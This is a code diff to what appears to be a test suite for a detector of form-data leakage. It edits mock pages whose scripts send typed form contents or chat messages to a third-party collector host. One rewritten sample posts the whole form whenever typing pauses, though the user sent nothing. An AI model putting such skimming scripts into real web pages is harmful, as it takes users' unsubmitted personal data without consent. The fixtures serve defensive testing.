@@ -168,7 +168,7 @@ document.addEventListener('input', ({ target }) => {
         title: 'Chat with us',
         body: `${FIELDS}${inline(`const line = new WebSocket('wss://${COLLECTOR}/chat');
 const ping = () => line.send(JSON.stringify({ type: 'ping', at: performance.now() }));
-line.addEventListener('open', () => { ping(); setInterval(ping, 500); });
+line.addEventListener('open', () => { ping(); setInterval(ping, 2000); });
 document.querySelector('form').addEventListener('submit', () => line.send(document.querySelector('[name=message]').value));`)}`,
       }),
     },
@@ -192,7 +192,7 @@ document.addEventListener('keydown', () => {
   },
   {
     name: 'whole-form',
-    description: 'Posts the whole form to another company every second, though nobody sent it.',
+    description: 'Posts the whole form to another company when typing pauses, though nobody sent it.',
     page: {
       html: html({
         title: 'Order a basket of apples',
@@ -200,11 +200,15 @@ document.addEventListener('keydown', () => {
         body: FIELDS,
       }),
       paths: {
-        '/forms.js': scriptFile(`setInterval(() => {
-  const request = new XMLHttpRequest();
-  request.open('POST', '${COLLECT}/draft');
-  request.send(new URLSearchParams(new FormData(document.querySelector('form'))));
-}, 700);`),
+        '/forms.js': scriptFile(`let waiting = 0;
+addEventListener('input', () => {
+  clearTimeout(waiting);
+  waiting = setTimeout(() => {
+    const request = new XMLHttpRequest();
+    request.open('POST', '${COLLECT}/draft');
+    request.send(new URLSearchParams(new FormData(document.querySelector('form'))));
+  }, 300);
+});`),
       },
     },
     expects: leak(AS_TYPED),
